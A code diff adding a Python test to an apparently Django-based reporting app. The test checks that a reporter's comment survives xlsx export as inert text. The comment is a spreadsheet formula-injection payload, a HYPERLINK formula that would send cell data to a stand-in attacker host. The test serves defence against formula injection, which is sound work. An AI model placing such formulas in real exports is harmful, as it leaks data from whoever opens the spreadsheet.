@@ -54,3 +54,17 @@ def test_the_page_and_its_download(world, client):
     assert "Thiếu" in client.get(url).content.decode()
     download = client.get(url + "&format=xlsx")
     assert download["Content-Type"].startswith("application/vnd.openxmlformats")
+
+
+def test_a_reporters_formula_comment_ends_as_text_in_the_export(world):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    c = world.cast
+    form = form_open_or_create(user=c.health_reporter, regime=world.regime, unit=c.health, period_key=world.period.key)
+    form_save_values(user=c.health_reporter, form=form, expected_version=form.version,
+                     values=[{"target": world.beds.pk, "value": "30,5", "comment": hostile}])
+    data = consolidation_xlsx(user=world.cast.planner, regime=world.regime, period_key=world.period.key)
+    ws: Any = load_workbook(io.BytesIO(data)).active
+    row = next(r for r in range(4, ws.max_row + 1) if ws.cell(r, 3).value == "Số giường bệnh/vạn dân")
+    comment = ws.cell(row, 9)
+    assert comment.value == hostile and comment.data_type == "s" and comment.quotePrefix
+    assert ws.cell(row, 6).value == 30.5
